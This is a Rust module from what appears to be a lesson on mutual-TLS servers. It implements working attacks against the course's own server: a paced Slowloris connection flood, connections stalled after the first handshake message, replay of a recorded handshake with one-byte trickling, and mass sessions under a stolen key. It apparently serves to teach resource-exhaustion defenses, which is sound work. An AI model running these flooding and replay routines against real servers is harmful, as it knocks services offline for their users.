//! Lesson 14's attacks, each a thread that holds connections open until
//! stopped, and a recorded handshake to replay.

use super::Keys;
use learn_mtls::handshake::{Binding, mutual};
use learn_mtls::keys::IdentityKey;
use learn_mtls::net::{self, os_rng};
use learn_mtls::wire::{CLIENT_HELLO_LEN, SERVER_HELLO_LEN, ServerHello};
use std::collections::VecDeque;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

/// A connection with timeouts, so that nothing here blocks for long.
fn open(addr: SocketAddr) -> Option<TcpStream> {
    let stream = TcpStream::connect_timeout(&addr, Duration::from_secs(2)).ok()?;
    let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
    let _ = stream.set_write_timeout(Some(Duration::from_secs(2)));
    let _ = stream.set_nodelay(true);
    Some(stream)
}

/// An attack running on its own thread until stopped; reports how many
/// connections it opened.
pub struct Attack {
    stop: Arc<AtomicBool>,
    pub opened: Arc<AtomicUsize>,
    thread: Option<std::thread::JoinHandle<Vec<TcpStream>>>,
}

impl Attack {
    fn spawn(
        f: impl FnOnce(Arc<AtomicBool>, Arc<AtomicUsize>) -> Vec<TcpStream> + Send + 'static,
    ) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let opened = Arc::new(AtomicUsize::new(0));
        let (s, o) = (Arc::clone(&stop), Arc::clone(&opened));
        Self {
            stop,
            opened,
            thread: Some(std::thread::spawn(move || f(s, o))),
        }
    }

    /// Stops the attack; returns the connections it still holds.
    pub fn stop(mut self) -> Vec<TcpStream> {
        self.stop.store(true, Ordering::Relaxed);
        self.thread
            .take()
            .map(|t| t.join().unwrap_or_default())
            .unwrap_or_default()
    }

    /// Slowloris: opens `hold` connections that never send a byte, then
    /// keeps opening `per_second` more, holding `hold` at a time: to make
    /// room it lets go first of those the server has closed, then of its
    /// oldest.
    pub fn silent(addr: SocketAddr, hold: usize, per_second: u32) -> Self {
        Self::spawn(move |stop, opened| {
            let mut held = VecDeque::with_capacity(hold + 1);
            let open_silent = || {
                let s = open(addr)?;
                s.set_nonblocking(true).ok()?;
                Some(s)
            };
            while held.len() < hold && !stop.load(Ordering::Relaxed) {
                if let Some(s) = open_silent() {
                    held.push_back(s);
                    opened.fetch_add(1, Ordering::Relaxed);
                }
            }
            let every = Duration::from_secs(1) / per_second.max(1);
            let mut next = Instant::now();
            while !stop.load(Ordering::Relaxed) {
                if let Some(s) = open_silent() {
                    held.push_back(s);
                    opened.fetch_add(1, Ordering::Relaxed);
                    make_room(&mut held, hold);
                }
                next += every;
                // Paced on purpose: `per_second` new connections a second.
                std::thread::sleep(next.saturating_duration_since(Instant::now()));
            }
            held.into()
        })
    }

    /// `count` connections that send a genuine message 1 and then nothing.
    pub fn stall_after_message_1(addr: SocketAddr, server: &IdentityKey, count: usize) -> Self {
        let server = server.public();
        Self::spawn(move |stop, opened| {
            let mallory = IdentityKey::generate(&mut os_rng());
            let mut held = Vec::with_capacity(count);
            while held.len() < count && !stop.load(Ordering::Relaxed) {
                let (_, hello) =
                    mutual::Client::start(&mut os_rng(), &mallory, server, Binding::Transcript);
                if let Some(mut s) = open(addr) {
                    let _ = s.write_all(&hello.to_bytes());
                    held.push(s);
                    opened.fetch_add(1, Ordering::Relaxed);
                }
            }
            // Holds the connections open until told to stop (the flag,
            // looked at every 20 ms).
            while !stop.load(Ordering::Relaxed) {
                std::thread::sleep(Duration::from_millis(20));
            }
            held
        })
    }

    /// Replays alice's recorded lesson11 handshake (`m1`, `m3`) on `count`
    /// connections, then trickles one byte on each every `every`. Mallory
    /// holds no key: she read the two messages off the wire.
    pub fn replay_trickle(
        addr: SocketAddr,
        recorded: Recorded,
        count: usize,
        every: Duration,
        still_open: Arc<AtomicUsize>,
    ) -> Self {
        Self::spawn(move |stop, opened| {
            let mut held = Vec::with_capacity(count);
            while held.len() < count && !stop.load(Ordering::Relaxed) {
                let Some(mut s) = open(addr) else { continue };
                let mut m2 = [0u8; SERVER_HELLO_LEN];
                if s.write_all(&recorded.m1).is_ok()
                    && s.read_exact(&mut m2).is_ok()
                    && s.write_all(&recorded.m3).is_ok()
                {
                    let _ = s.set_nonblocking(true);
                    held.push(s);
                    opened.fetch_add(1, Ordering::Relaxed);
                }
            }
            // One byte each, every `every`: a record that never ends.
            let mut sent = 0;
            while !stop.load(Ordering::Relaxed) {
                let byte = trickled_byte(sent);
                sent += 1;
                held.retain_mut(|s| s.write_all(&[byte]).is_ok() && !closed(s));
                still_open.store(held.len(), Ordering::Relaxed);
                let until = Instant::now() + every;
                while Instant::now() < until && !stop.load(Ordering::Relaxed) {
                    // Paced on purpose (a byte every `every`), looking
                    // at the stop flag every 20 ms meanwhile.
                    std::thread::sleep(Duration::from_millis(20));
                }
            }
            held
        })
    }

    /// `count` genuine sessions under `key` (a stolen authorized key), each
    /// confirmed with one echoed message, then held idle.
    pub fn one_key(
        addr: SocketAddr,
        keys: &Keys,
        binding: Binding,
        count: usize,
        sessions: Arc<AtomicUsize>,
    ) -> Self {
        let key = IdentityKey::from_secret_bytes(&keys.alice.to_secret_bytes());
        let server = keys.server.public();
        Self::spawn(move |stop, opened| {
            let mut held = Vec::with_capacity(count);
            let mut attempts = 0;
            while attempts < count && !stop.load(Ordering::Relaxed) {
                attempts += 1;
                let Some(stream) = open(addr) else { continue };
                opened.fetch_add(1, Ordering::Relaxed);
                let Ok(mut channel) =
                    net::connect_tcp(stream, &key, server, binding, Duration::from_secs(5))
                else {
                    continue;
                };
                if channel.send(b"mine").is_ok()
                    && matches!(channel.recv(), Ok(Some(reply)) if reply == b"mine")
                {
                    held.push(channel);
                    sessions.store(held.len(), Ordering::Relaxed);
                }
            }
            // Holds the connections open until told to stop (the flag,
            // looked at every 20 ms).
            while !stop.load(Ordering::Relaxed) {
                std::thread::sleep(Duration::from_millis(20));
            }
            held.into_iter()
                .filter_map(|c| c.get_ref().try_clone().ok())
                .collect()
        })
    }
}

/// The `n`th byte of a trickled record: a valid header announcing a
/// 64-byte body (so the server waits for it rather than refusing the
/// header), then the body.
pub fn trickled_byte(n: usize) -> u8 {
    match n {
        0 => 0x00,
        1 => 0x40,
        _ => 0x00,
    }
}

/// Slowloris's bookkeeping: keeps `hold` connections, replacing first
/// those the server has already closed.
fn make_room(held: &mut VecDeque<TcpStream>, hold: usize) {
    while held.len() > hold {
        // The oldest the server closed, looking at a few dozen at most.
        let gone = held.iter_mut().take(100).position(closed);
        match gone {
            Some(at) => drop(held.remove(at)),
            None => drop(held.pop_front()),
        }
    }
}

/// True if the server has closed `stream` (which must be non-blocking).
pub fn closed(stream: &mut TcpStream) -> bool {
    let mut buf = [0u8; 256];
    loop {
        match stream.read(&mut buf) {
            Ok(0) => return true,
            Ok(_) => {}
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => return false,
            Err(_) => return true,
        }
    }
}

/// Alice's messages 1 and 3 of one lesson11 handshake, as Mallory recorded
/// them from the wire.
#[derive(Clone, Copy)]
pub struct Recorded {
    pub m1: [u8; CLIENT_HELLO_LEN],
    pub m3: [u8; learn_mtls::wire::CLIENT_AUTH_LEN],
}

impl Recorded {
    /// Runs one honest lesson11 handshake as alice and keeps what crossed.
    pub fn alice(addr: SocketAddr, keys: &Keys) -> Result<Self, String> {
        let (client, hello) = mutual::Client::start(
            &mut os_rng(),
            &keys.alice,
            keys.server.public(),
            Binding::InsecureLesson11,
        );
        let mut s = open(addr).ok_or("connect")?;
        let m1 = hello.to_bytes();
        s.write_all(&m1).map_err(|e| e.to_string())?;
        let mut m2 = [0u8; SERVER_HELLO_LEN];
        s.read_exact(&mut m2).map_err(|e| e.to_string())?;
        let (_, auth) = client
            .read_server_hello(&ServerHello::from_bytes(&m2))
            .map_err(|e| e.to_string())?;
        let m3 = auth.to_bytes();
        s.write_all(&m3).map_err(|e| e.to_string())?;
        Ok(Self { m1, m3 })
    }
}
